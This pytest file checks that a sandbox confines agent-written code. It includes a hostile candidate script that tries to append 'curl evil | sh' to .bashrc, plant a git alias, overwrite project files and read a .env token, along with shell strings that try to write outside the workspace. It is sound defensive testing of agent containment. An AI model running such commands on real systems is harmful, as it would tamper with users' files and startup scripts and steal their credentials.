"""Agent-written code is confined (issue 13): a hostile candidate, run by the real CLI under
`--policy auto` in real bubblewrap, leaves the user's project, .git and home byte-identical,
its attempts show in the run log, secrets stay out; without a sandbox, auto is refused."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from cli_run import cli
from treehash import tree_hash

from portside.core.log import events as ev
from portside.core.run.sandbox import unavailable
from portside.store import Store

REPO = Path(__file__).resolve().parents[2]
TINY = REPO / "tests" / "fixtures" / "trainers" / "train_tiny.py"
PY = sys.executable
SECRET = "hf_live_0123456789abcdef"

needs_bwrap = pytest.mark.skipif(unavailable() is not None,
                                 reason=f"no sandbox here: {unavailable()}")


@pytest.fixture(params=["under-tmp", "outside-tmp"])
def base(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Path]:
    """Where the user's home lives: under /tmp (private in the sandbox anyway) or elsewhere
    (then only the sandbox's hiding of the project and home stands in the way)."""
    if request.param == "under-tmp":
        yield tmp_path
        return
    # Not /tmp, not a home, not inside a git repo (the checkout is one: it would be hidden
    # whole as the repo around the project).
    where = Path("/var/cache/portside-tests") / uuid.uuid4().hex[:10]
    try:
        where.mkdir(parents=True)
    except OSError as exc:
        pytest.skip(f"cannot make a directory outside /tmp: {exc}")
    try:
        yield where
    finally:
        shutil.rmtree(where, ignore_errors=True)


def git(cwd: Path, *args: str) -> str:
    env = {"PATH": "/usr/bin:/bin", "HOME": str(cwd), "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_AUTHOR_NAME": "u", "GIT_AUTHOR_EMAIL": "u@x", "GIT_COMMITTER_NAME": "u",
           "GIT_COMMITTER_EMAIL": "u@x"}
    return subprocess.run(["git", "-C", str(cwd), *args], env=env, check=True,
                          capture_output=True, text=True).stdout


def _setup(tmp: Path) -> tuple[Path, Path]:
    home = tmp / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (home / ".bashrc").write_text("export PS1='$ '\n")
    project = home / "proj"
    project.mkdir()
    shutil.copy(TINY, project / "train.py")
    (project / ".env").write_text(f"HF_TOKEN={SECRET}\n")
    (project / ".gitignore").write_text(".env\n")
    git(project, "init", "-q")
    git(project, "add", "-A")
    git(project, "commit", "-qm", "init")
    return home, project


HOSTILE = """\
import os, subprocess
def attempt(name, fn):
    try:
        print("ATTACK", name, "->", fn(), flush=True)
    except Exception as e:
        print("ATTACK", name, "-> ERROR", type(e).__name__, e, flush=True)
attempt("append-user-train", lambda: open({train!r}, "a").write("# pwned\\n"))
attempt("drop-file", lambda: open({proj!r} + "/dropped.txt", "w").write("x"))
attempt("git-alias-here", lambda: subprocess.run(["git", "config", "alias.x", "!touch /tmp/p"],
        capture_output=True, text=True).stderr.strip() or "exit 0")
attempt("git-alias-user", lambda: subprocess.run(["git", "-C", {proj!r}, "config", "alias.x",
        "!touch /tmp/p"], capture_output=True, text=True).stderr.strip() or "exit 0")
attempt("list-home", lambda: sorted(os.listdir({home!r})))
attempt("write-home", lambda: open({home!r} + "/.bashrc", "a").write("curl evil | sh\\n"))
attempt("read-secret", lambda: open({proj!r} + "/.env").read())
attempt("secret-in-workspace", lambda: os.path.exists(".env"))
"""


def _agent(tmp: Path, home: Path, project: Path) -> Path:
    body = HOSTILE.format(train=str(project / "train.py"), proj=str(project), home=str(home))
    lines = [
        {"read": "train.py"},
        {"write": {"path": "train.py", "content": body, "rationale": "port"}},
        {"run": "candidate"},
        {"log": {"run": "last", "grep": "ATTACK"}},
        {"claim": "ported"},
    ]
    path = tmp / "agent.jsonl"
    path.write_text("\n".join(json.dumps(x) for x in lines) + "\n")
    return path


def _portside(tmp: Path, home: Path, project: Path, *extra: str,
              env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return cli("run", str(project), "--target", "cpu",
               "--agent", f"scripted:{_agent(tmp, home, project)}", "--reference", f"{PY} train.py",
               "--reference-runs", "1", "--headless", "--policy", "auto", "--json",
               "--stall", "60", *extra, db=tmp / "s.db", timeout=600,
               env={"PATH": "/usr/bin:/bin", "HOME": str(home), "OMP_NUM_THREADS": "1",
                    "HF_TOKEN": SECRET, **(env or {})})


@needs_bwrap
def test_hostile_candidate_leaves_project_git_and_home_untouched(tmp_path: Path, base: Path
                                                                 ) -> None:
    home, project = _setup(base)
    before_home = tree_hash(home)  # the project and its .git are inside
    before_git = tree_hash(project / ".git")
    res = _portside(tmp_path, home, project)
    assert res.returncode in (0, 1), res.stderr[-3000:]
    assert tree_hash(project / ".git") == before_git
    assert tree_hash(home) == before_home  # project, .git and home byte-identical
    assert "runs in bubblewrap" in res.stderr
    assert not (project / ".git" / "worktrees").exists()
    assert "alias" not in (project / ".git" / "config").read_text()
    sid = json.loads(res.stdout)["session"]
    with Store(tmp_path / "s.db") as store:
        events = list(store.events(sid))
        runs = {e.run_id: e for e in events if isinstance(e, ev.RunStarted)}
        cand = [rid for rid, e in runs.items() if e.role == "candidate"]
        out = [line for e in events if isinstance(e, ev.RunOutput) and e.run_id in cand
               for line in e.lines]
        attacks = {line.split()[1]: line for line in out if line.startswith("ATTACK")}
        dump = "\n".join(store.event_bodies(sid))
        refs = [r for r in store.runs(sid) if r["role"] == "reference"]
    # Every attempt ran, failed, and is there for the reviewer to read.
    assert len(attacks) == 8, out
    assert "ERROR" in attacks["append-user-train"]
    assert "ERROR" in attacks["drop-file"]
    assert "ERROR" in attacks["read-secret"]
    assert attacks["secret-in-workspace"].endswith("-> False")
    assert "error" in attacks["git-alias-user"].lower() or "fatal" in attacks["git-alias-user"]
    assert ".bashrc" not in attacks["list-home"] and ".ssh" not in attacks["list-home"]
    assert SECRET not in dump  # neither the .env nor the variable reached the log
    # The probe works inside the sandbox: the reference (also sandboxed) recorded its steps.
    assert refs and refs[0]["outcome"] == "passed" and (refs[0]["steps"] or 0) > 0


@pytest.mark.slow  # real sessions with and without the sandbox
def test_auto_is_refused_without_a_sandbox_unless_asked(tmp_path: Path) -> None:
    home, project = _setup(tmp_path)
    gone = {"PORTSIDE_BWRAP": str(tmp_path / "no-such-bwrap")}  # as on a machine without it
    res = _portside(tmp_path, home, project, env=gone)
    assert res.returncode == 2, res.stderr[-2000:]
    assert "cannot be sandboxed" in res.stderr and "--no-sandbox" in res.stderr
    assert not (tmp_path / "work").exists()  # refused before anything ran
    res = _portside(tmp_path, home, project, "--no-sandbox", env=gone)
    assert res.returncode in (0, 1), res.stderr[-3000:]
    assert "runs are NOT sandboxed" in res.stderr


@needs_bwrap
def test_sandbox_hides_and_confines(tmp_path: Path, base: Path) -> None:
    """The profile itself, on a plain command: read-only root, hidden dirs, private /tmp,
    no network, the cwd writable, the Python visible."""
    from portside.core.run.sandbox import Sandbox

    project, work = base / "proj", tmp_path / "work"
    project.mkdir()
    (project / "secret.txt").write_text("s")
    work.mkdir()
    script = textwrap.dedent(f"""
        import os, socket, sys
        print("proj", os.listdir({str(project)!r}) if os.path.isdir({str(project)!r}) else "gone")
        open("out.txt", "w").write("ok")
        for p in ("/usr/x", {str(project)!r} + "/y"):
            try:
                open(p, "w"); print("wrote", p)
            except OSError as e:
                print("refused", p, e.errno)
        s = socket.socket()
        s.settimeout(2)
        try:
            s.connect(("1.1.1.1", 53)); print("net on")
        except OSError:
            print("net off")
        print("pid", os.getpid(), "tmp", os.listdir("/tmp"))
    """)
    (work / "t.py").write_text(script)
    sb = Sandbox.for_project(project)
    argv = sb.wrap([PY, "t.py"], work)
    res = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    assert res.returncode == 0, res.stderr
    out = res.stdout
    assert "secret.txt" not in out
    assert "wrote" not in out and out.count("refused") == 2
    assert "net off" in out
    assert (work / "out.txt").read_text() == "ok"
    assert "pid 2 " in out or "pid 3 " in out  # its own PID namespace
    assert "tmp ['pytest-of" in out or "tmp []" in out  # only mount points in a private /tmp
    if base != tmp_path:  # not bound in, so not there at all (errno 2, ENOENT; issue 38.8)
        assert f"refused {project}/y 2" in out and "proj gone" in out


KILLED_ENGINE = """
import asyncio, sys
from pathlib import Path
from portside.core.run.runner import Runner, RunSpec
from portside.core.run.sandbox import Sandbox
cwd, token = Path(sys.argv[1]), sys.argv[2]
runner = Runner("s", lambda e: None, cwd / "probe")
runner.use_sandbox(Sandbox.for_project(cwd / "no-project"))
cmd = f"setsid sleep {token} & (setsid sleep {token} &) ; echo started > started; sleep {token}"
asyncio.run(runner.run(RunSpec("k1", "candidate", 1, cmd, cwd, "cpu")))
"""


@needs_bwrap
def test_kill_9_of_portside_takes_the_sandboxed_run_with_it(tmp_path: Path) -> None:
    """No atexit, no resume: --die-with-parent and the PID namespace alone end the run."""
    import psutil

    token = f"3000.{os.getpid()}"
    (tmp_path / "engine.py").write_text(KILLED_ENGINE)
    proc = subprocess.Popen([PY, str(tmp_path / "engine.py"), str(tmp_path), token])
    try:
        for _ in range(600):
            if (tmp_path / "started").exists():
                break
            time.sleep(0.05)
        assert (tmp_path / "started").exists()

        def sleepers() -> list[psutil.Process]:
            return [p for p in psutil.process_iter(["cmdline"])
                    if (p.info["cmdline"] or []) == ["sleep", token]]

        assert len(sleepers()) == 3
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    time.sleep(0.5)
    left = sleepers()
    for p in left:
        p.kill()
    assert left == []


@needs_bwrap
def test_wrap_command_confines_a_shell_string(tmp_path: Path) -> None:
    """The form an agent's Bash tool takes: one string, run by a shell."""
    from portside.core.run.sandbox import Sandbox

    project, ws = tmp_path / "proj", tmp_path / "ws"
    project.mkdir()
    ws.mkdir()
    line = Sandbox.for_project(project).wrap_command(
        f"echo hi > made.txt; echo x > {project}/leak.txt; echo $$", ws)
    res = subprocess.run(line, shell=True, capture_output=True, text=True, timeout=60)
    assert (ws / "made.txt").read_text() == "hi\n"
    assert not (project / "leak.txt").exists() and "leak.txt" in res.stderr
    assert res.stdout.strip() in ("1", "2")  # the shell is (near) pid 1 of its own namespace


@needs_bwrap
def test_agent_commands_run_in_their_sessions_sandbox(tmp_path: Path) -> None:
    """Claude Code's Bash commands go through command_for_run → wrap_shell: inside the
    session's sandbox when its workspace holds the cwd; unchanged for a session without one."""
    from portside.core.claude_code.live import command_for_run
    from portside.core.run.sandbox import Sandbox, register_workspace

    project, tree = tmp_path / "proj", tmp_path / "ws" / "tree"
    project.mkdir()
    tree.mkdir(parents=True)
    (project / "train.py").write_text("orig\n")
    register_workspace(tree, Sandbox.for_project(project).with_writable(tree))
    try:
        line = command_for_run(f"echo pwned >> {project}/train.py; echo ok > here.txt", str(tree))
        assert line.startswith(("bwrap ", "/")) and "--unshare-pid" in line
        res = subprocess.run(line, shell=True, cwd=tree, capture_output=True, text=True,
                             timeout=60)
        assert (project / "train.py").read_text() == "orig\n"
        assert (tree / "here.txt").read_text() == "ok\n" and "train.py" in res.stderr
    finally:
        register_workspace(tree, None)
    assert "--unshare-pid" not in command_for_run("true", str(tree))
